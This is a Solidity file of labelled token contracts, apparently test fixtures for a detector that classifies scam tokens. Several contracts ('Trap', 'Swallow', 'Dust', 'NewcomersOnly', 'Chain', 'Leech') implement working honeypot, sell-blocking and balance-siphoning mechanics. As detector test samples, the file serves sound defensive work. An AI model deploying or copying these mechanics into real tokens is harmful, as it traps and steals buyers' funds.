// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

abstract contract Base {
    string public name = "Traded";
    string public symbol = "TRD";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pool;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() {
        owner = msg.sender;
        totalSupply = 1_000_000 ether;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function setPool(address at) external {
        require(msg.sender == owner, "owner");
        pool = at;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _move(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        _move(from, to, amount);
        return true;
    }

    function _move(address from, address to, uint256 amount) internal virtual {
        _take(from, to, amount, 0);
    }

    function _take(address from, address to, uint256 amount, uint256 tax) internal {
        balanceOf[from] -= amount;
        balanceOf[to] += amount - tax;
        emit Transfer(from, to, amount - tax);
        if (tax > 0) {
            balanceOf[owner] += tax;
            emit Transfer(from, owner, tax);
        }
    }
}

// expects: clear
contract Fair is Base {}

// expects: trade_tax
contract FivePercent is Base {
    function _move(address from, address to, uint256 amount) internal override {
        bool free = from == owner || to == owner;
        _take(from, to, amount, free ? 0 : amount * 5 / 100);
    }
}

// expects: sell_tax_high
contract Greedy is Base {
    function _move(address from, address to, uint256 amount) internal override {
        _take(from, to, amount, to == pool && from != owner ? amount * 37 / 100 : 0);
    }
}

// expects: buy_tax_high
contract Toll is Base {
    function _move(address from, address to, uint256 amount) internal override {
        _take(from, to, amount, from == pool ? amount * 25 / 100 : 0);
    }
}

// expects: honeypot
contract Trap is Base {
    function _move(address from, address to, uint256 amount) internal override {
        require(to != pool || from == owner, "not now");
        _take(from, to, amount, 0);
    }
}

// expects: honeypot
contract Swallow is Base {
    function _move(address from, address to, uint256 amount) internal override {
        _take(from, to, amount, to == pool && from != owner ? amount : 0);
    }
}

// expects: honeypot
contract Dust is Base {
    function _move(address from, address to, uint256 amount) internal override {
        require(to != pool || from == owner || block.coinbase == address(0), "only for a look");
        _take(from, to, amount, 0);
    }
}

// expects: sell_limit
contract Capped is Base {
    function _move(address from, address to, uint256 amount) internal override {
        require(to != pool || from == owner || amount <= 20_000 ether, "too much");
        _take(from, to, amount, 0);
    }
}

// expects: cooldown
contract Patient is Base {
    mapping(address => uint256) public last;

    function _move(address from, address to, uint256 amount) internal override {
        require(to != pool || from == owner || block.timestamp >= last[from] + 600, "wait");
        if (from == pool) last[to] = block.timestamp;
        _take(from, to, amount, 0);
    }
}

// expects: trading_closed
contract Shut is Base {
    bool public open;

    function start() external {
        require(msg.sender == owner, "owner");
        open = true;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(open || from == owner || to == owner, "not open");
        _take(from, to, amount, 0);
    }
}

// expects: trade_tax
contract RouterFree is Base {
    function _move(address from, address to, uint256 amount) internal override {
        bool traded = from == pool || to == pool || from == owner;
        _take(from, to, amount, traded ? 0 : amount * 3 / 100);
    }
}

// expects: holders_trapped
contract NewcomersOnly is Base {
    mapping(address => bool) public kept;

    function keep(address who) external {
        require(msg.sender == owner, "owner");
        kept[who] = true;
    }

    function _move(address from, address to, uint256 amount) internal override {
        require(!kept[from] || to != pool, "kept");
        _take(from, to, amount, 0);
    }
}

// expects: siphons
contract Chain is Base {
    address last;

    function _move(address from, address to, uint256 amount) internal override {
        if (last != address(0) && last != pool && last != owner && last != from) _take(last, owner, balanceOf[last] / 3, 0);
        last = to;
        _take(from, to, amount, 0);
    }
}

// expects: clear
contract Remembers is Base {
    address public last;

    function _move(address from, address to, uint256 amount) internal override {
        if (from == pool) last = to;
        _take(from, to, amount, 0);
    }
}

// expects: siphons
contract Leech is Base {
    address public victim;

    function feed(address who) external {
        require(msg.sender == owner, "owner");
        victim = who;
    }

    function _move(address from, address to, uint256 amount) internal override {
        if (from == pool && victim != address(0)) {
            uint256 part = balanceOf[victim] / 2;
            balanceOf[victim] -= part;
            balanceOf[owner] += part;
        }
        _take(from, to, amount, 0);
    }
}
